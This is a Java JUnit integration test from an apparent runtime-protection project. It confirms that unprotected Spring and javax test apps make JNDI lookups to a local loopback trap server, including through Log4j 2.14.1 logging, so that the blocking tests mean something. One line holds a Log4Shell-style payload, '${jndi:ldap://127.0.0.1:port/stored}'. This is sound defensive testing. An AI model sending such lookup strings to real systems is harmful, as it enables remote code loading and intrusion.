package dev.rasp.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Without the agent every attack of {@link JndiCases} makes the application connect to the test's loopback
 * {@link LookupTrap} (the lookup, and Log4j 2.14.1 resolving the logged header), and every twin is served without a
 * connection. This is what makes {@link JndiBlockModeIT} meaningful.
 */
@ExtendWith(AppLogsOnFailure.class)
class JndiVulnerableWithoutAgentIT {
    static LookupTrap trap;
    static AppProcess spring;
    static AppProcess javax;

    @BeforeAll
    static void start() {
        trap = new LookupTrap();
        spring = SpringBlockModeIT.springApp("spring-jndi-noagent").withoutAgent().startShared(Duration.ofSeconds(180));
        javax = AppProcess.builder("javax-jndi-noagent", ItConfig.javaxJar()).withoutAgent().startShared(Duration.ofSeconds(120));
    }

    @AfterAll
    static void stop() {
        for (AppProcess a : new AppProcess[] {spring, javax}) {
            if (a != null) {
                a.release();
            }
        }
        if (trap != null) {
            trap.close();
        }
    }

    static Http http(String app) {
        return new Http((app.equals("spring") ? spring : javax).baseUrl());
    }

    static List<JndiCases.Attack> attacks() {
        List<JndiCases.Attack> out = new ArrayList<>(JndiCases.attacks("spring", trap.port()));
        out.addAll(JndiCases.attacks("javax", trap.port()));
        return out;
    }

    static List<JndiCases.Twin> twins() {
        List<JndiCases.Twin> out = new ArrayList<>(JndiCases.twins("spring"));
        out.addAll(JndiCases.twins("javax"));
        return out;
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void lookupConnectsToTheAttackersServer(JndiCases.Attack c) {
        int before = trap.connections();
        Http.Resp r = c.send(http(c.app()));
        assertEquals(200, r.status(), c + ": " + r);
        assertTrue(trap.connectedSince(before, 5000), c + ": no connection reached the trap; answer " + r);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("twins")
    void twinIsServedWithoutConnection(JndiCases.Twin c) {
        int before = trap.connections();
        Http.Resp r = c.send(http(c.app()));
        assertEquals(200, r.status(), c + ": " + r);
        assertTrue(r.body().contains(c.expect()), c + ": the answer lacks " + c.expect() + ": " + r);
        assertEquals(before, trap.connections(), c + ": a connection reached the trap");
    }

    @Test
    void storedPayloadLoggedByABackgroundThreadConnects() {
        int before = trap.connections();
        String status = JndiBlockModeIT.storeAndAwaitLogging(http("spring"),
            "${jndi:ldap://127.0.0.1:" + trap.port() + "/stored}");
        assertTrue(trap.connectedSince(before, 5000), "no connection reached the trap; status " + status);
    }
}
